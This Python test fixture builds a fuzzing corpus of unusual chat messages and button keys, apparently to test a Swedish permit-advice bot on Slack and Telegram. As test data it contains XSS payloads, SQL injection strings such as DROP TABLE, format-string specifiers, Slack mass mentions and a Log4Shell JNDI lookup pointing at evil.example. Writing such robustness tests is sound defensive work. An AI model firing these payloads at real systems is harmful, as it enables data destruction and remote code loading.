"""A corpus of odd things people (and bots, and cats on keyboards) send: empty and blank
messages, emoji, right-to-left and zero-width text, markup, SQL, Slack mentions, very long
text, control characters, commands with junk, numbers, other languages, and made-up button keys."""

from __future__ import annotations

import random

BASE: list[str] = [
    # empty and blank
    "", " ", "   ", "\t", "\n", "\r\n", "\u00a0", "\u3000", " \n \t ",
    # emoji
    "😀", "👍", "👍👍👍👍👍", "🏗️🍕🍺", "🇸🇪", "👨‍👩‍👧‍👦", "❤️", "🤬🤬 bygglov 🤬", "🙂 hej", "💩" * 50,
    # right to left, bidi, zero width
    "مرحبا", "أريد فتح مطعم", "שלום", "\u202eevil\u202c", "abc\u202edcba", "\u200f\u200e",
    "\u200b", "\u200b\u200c\u200d", "bygg\u200blov?", "\ufeffhej", "\u2060\u2060", "tillst\u00ade\u0301nd",
    # markup and scripts
    "<script>alert(1)</script>", "<b>fet</b>", "<img src=x onerror=alert(1)>", "&lt;&gt;&amp;", "<!-- -->",
    "</textarea><svg onload=alert(1)>", "<a href='javascript:alert(1)'>klick</a>", "*fet* _kursiv_ `kod`",
    "```\nkod\n```", "[länk](https://evil.example)", "<tg-spoiler>x</tg-spoiler>", "{{profile.name}}",
    "${jndi:ldap://evil.example/a}", "%s%s%s%n", "{0}{1}", "\\", "\\n\\t",
    # SQL
    "'; DROP TABLE cases;--", "1 OR 1=1", "\" OR \"\"=\"", "' UNION SELECT * FROM lotsen_case --",
    "Robert'); DROP TABLE conversation;--", "admin'--",
    # Slack mentions and links
    "<!here>", "<!channel>", "<!everyone>", "<@U0SJ0ALKO1>", "<#C123|general>", "<https://evil.example|klicka>",
    "<!subteam^S123>", "@here bygglov?", "<!date^1392734382^{date}|x>",
    # very long
    "a" * 5000, "bygglov " * 800, ("Jag undrar om bygglov. " * 300) + "anna@example.com",
    "x" * 4096, "å" * 3000, "\n".join(["rad"] * 500),
    # control characters
    "\x00", "\x07pling", "\x1b[31mröd\x1b[0m", "\x08\x08\x08", "hej\x00då", "\x7f", "\u0085", "\u2028\u2029",
    # commands with junk
    "/", "//", "/ lots", "/lots<script>", "/avbryt;;;", "/glom_mig extra ord", "/start nu", "/" + "x" * 100,
    "/foo@annanbot", "/mina_arenden'", "/LOTS", "/lots " + "z" * 3000, "/hjälp", "/meny", "/stop", "/foo",
    "/123", "/lotse", "/lotse nobody@example.com claim L-2026-0001", "/lotse x y z w", "/lotse '",
    # numbers and symbols
    "0", "-1", "99", "1e9", "3.14", "½", "1/0", "NaN", "∞", "+46 70 123 45 67", "#", "?", "!", "...", "?!?!",
    "ja", "nej", "JA!!!", "1", "2", "3", "4", "999999999999999999999",
    # odd unicode
    "Ｂｙｇｇｌｏｖ？", "BYGGLOV!!!!", "ǅ", "İstanbul", "ß", "e\u0301" * 30, "𝕓𝕪𝕘𝕘𝕝𝕠𝕧", "ᚠᛇᚻ",
    "\ud7ff", "\ue000", "\U0010ffff",
    # other languages
    "Waan ku faraxsanahay", "Haluan perustaa ravintolan", "Ich möchte ein Restaurant eröffnen",
    "Je voudrais ouvrir un restaurant", "Хочу открыть ресторан", "我想开一家餐馆", "レストランを開きたい",
    "Quiero abrir un restaurante", "Chcę otworzyć restaurację", "ትግርኛ", "नमस्ते",
]

SUFFIXES = ["<!here>", "'; DROP TABLE x;--", "😀", "\u200b", "<script>x</script>", "\x00"]


def corpus() -> list[str]:
    """At least 250 messages: the base list and questions mixed with odd parts."""
    rng = random.Random(20261123)
    mixed = [f"Behöver jag bygglov? {suffix}" for suffix in SUFFIXES]
    mixed += [f"{suffix} serveringstillstånd" for suffix in SUFFIXES]
    mixed += ["".join(rng.choice("abcåäö 0123456789<>&;'\"/\\@!?#*_~`|{}[]()\u200b😀") for _ in range(rng.randint(1, 60)))
              for _ in range(125)]
    return BASE + mixed


def button_keys() -> list[str]:
    """Made-up or stale keys of the kinds the core uses, and junk."""
    return ["topic:nonexistent", "topic:", "topic:bygglov:extra", "case:L-2026-9999:meeting:accept",
            "case:x", "case:L-2026-0001:claim", "meeting:signup:999999", "meeting:signup:abc", "meeting:xyz:1",
            "meeting:subscribe:", "meeting:cancel:-1", "more:nope", "more:", "offer:lots", "offer:other",
            "erase:confirm", "erase:keep", "consent:yes", "consent:no", "consent:maybe", "", ":", "::::",
            "x" * 200, "<!here>", "'; DROP TABLE cases;--", "😀", "\x00", "n:claim:L-2026-0001"]


def telegram_sendable(text: str) -> bool:
    """Telegram delivers no empty or blank message."""
    return bool(text.strip()) and len(text) <= 4096 and "\x00" not in text and not any(
        0xD800 <= ord(c) <= 0xDFFF for c in text)
